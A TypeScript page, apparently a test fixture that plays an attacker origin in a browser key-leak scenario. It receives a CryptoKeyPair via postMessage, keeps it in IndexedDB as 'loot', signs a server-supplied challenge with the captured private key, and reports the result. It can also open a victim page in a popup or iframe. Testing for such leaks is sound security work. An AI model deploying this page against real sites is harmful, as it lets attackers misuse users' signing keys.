/** The thief's page: takes a key by message, keeps it, and signs what its own server asks it to. */

import { promisifyRequest } from 'idb-keyval';
import { notesAt } from './notes.ts';

const { home = location.origin } = (document.currentScript as HTMLScriptElement).dataset;
const notes = notesAt(home);
const query = new URLSearchParams(location.search);
let taken = false;

addEventListener('message', ({ data, ports: [port] }: MessageEvent<unknown>) => {
  if (port) port.addEventListener('message', (event: MessageEvent<unknown>) => void use(event.data as CryptoKeyPair));
  port?.start();
  if (typeof data === 'object') void use(data as CryptoKeyPair);
});

async function use(pair: CryptoKeyPair): Promise<void> {
  taken = true;
  const kept = await keep(pair).catch(() => undefined);
  const { privateKey } = kept ?? pair;
  const challenge = new TextEncoder().encode(await notes.told<string>('challenge'));
  const signature = await crypto.subtle.sign({ name: privateKey.algorithm.name, hash: 'SHA-256' }, privateKey, challenge);
  await notes.tell('signed', { signature: [...new Uint8Array(signature)], kept: kept !== undefined });
}

/** Stores the pair in this origin's own database, and gives what comes back out of it. */
async function keep(pair: CryptoKeyPair): Promise<CryptoKeyPair> {
  const opening = indexedDB.open('loot', 1);
  opening.addEventListener('upgradeneeded', () => opening.result.createObjectStore('keys'));
  const database = await promisifyRequest(opening);
  await promisifyRequest(database.transaction('keys', 'readwrite').objectStore('keys').put(pair, 'loot'));
  return promisifyRequest<CryptoKeyPair>(database.transaction('keys').objectStore('keys').get('loot'));
}

const victim = query.get('victim');
if (victim !== null && query.get('as') === 'popup') document.querySelector('button')!.addEventListener('click', () => open(victim));
if (victim !== null && query.get('as') === 'frame') {
  const element = document.createElement('iframe');
  element.src = victim;
  document.body.append(element);
}

void notes.tell('listening');
void notes.told('last-call').then(() => notes.tell('left-with', { key: taken, opener: Boolean(opener) }));
